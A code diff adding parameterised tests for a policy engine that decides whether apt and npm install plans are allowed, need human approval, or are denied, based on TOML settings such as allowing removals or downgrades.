+    ['[apt]\ninstall = "allow"', install(), "allow"],
+    [
+      '[apt]\ninstall = "allow"\nallow_removals = true',
+      install({ transaction: [entry("a"), removal("b")] }),
+      "require_human",
+    ],
+    [
+      '[apt]\ninstall = "allow"\nallow_downgrades = true',
+      install({ transaction: [entry("a", { action: "downgrade" })] }),
+      "require_human",
+    ],
+    ['[apt]\ninstall = "allow"', install({ transaction: [entry("sudo")] }), "require_human"],
+    [NPM_ALLOWED, npm(), "allow"],
+    ['[npm]\napply = "require_human"', npm(), "require_human"],
+    [NPM_ALLOWED, npm({ mutable_reference: true }), "deny"],
+  ];
+  for (const [toml, plan, decision] of cases) {
+    test(`${toml.replaceAll("\n", " ")}: ${plan.tool} ${plan.operation} is ${decision}`, () => {
+      expect(decide(plan, toml).decision).toBe(decision);
+    });
+  }
+});
